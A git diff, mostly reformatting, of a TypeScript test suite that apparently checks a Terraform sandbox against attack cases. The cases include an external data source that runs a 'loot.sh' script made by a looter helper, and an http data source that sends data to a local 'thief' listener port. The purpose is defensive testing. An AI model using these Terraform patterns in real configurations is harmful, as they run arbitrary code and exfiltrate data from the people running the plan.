@@ -16,7 +16,9 @@ import {
 import { external, looter, ran } from './looter.ts';
 
 const opened = { state: 'succeeded', loot: ran } as const;
-const withExternal = (script: (name: string, prey: Prey) => string): Pick<GatedAttack, 'rule' | 'files' | 'opened'> => ({
+const withExternal = (
+  script: (name: string, prey: Prey) => string,
+): Pick<GatedAttack, 'rule' | 'files' | 'opened'> => ({
   rule: 'external-data',
   files: (prey, name) => ({
     'main.tf': external,
@@ -36,7 +38,12 @@ const gated: readonly GatedAttack[] = [
     files: (prey, name) => ({
       'main.tf': 'module "m" { source = "../../modules/m" }\n',
       '/modules/m/main.tf.json': JSON.stringify({
-        check: { c: { data: { external: { x: { program: ['bash', '$' + '{path.module}/loot.sh'] } }, assert: [{ condition: true, error_message: 'no' }] } },
+        check: {
+          c: {
+            data: { external: { x: { program: ['bash', '$' + '{path.module}/loot.sh'] } } },
+            assert: [{ condition: true, error_message: 'no' }],
+          },
+        },
       }),
       '/modules/m/loot.sh': looter(name, prey),
       '.terraform.lock.hcl': lockFile('external'),
@@ -113,7 +120,9 @@ const refused: readonly (Attack & { readonly rule: string })[] = [
     name: 'http-data',
     row: 'RCE-04',
     rule: 'http-data',
-    files: ({ thiefPort }) => ({ 'main.tf': `data "http" "x" {\n  url = "http://127.0.0.1:${thiefPort}/http-data"\n}\n` }),
+    files: ({ thiefPort }) => ({
+      'main.tf': `data "http" "x" {\n  url = "http://127.0.0.1:${thiefPort}/http-data"\n}\n`,
+    }),
   },
   {
     name: 'provider-of-another-host',
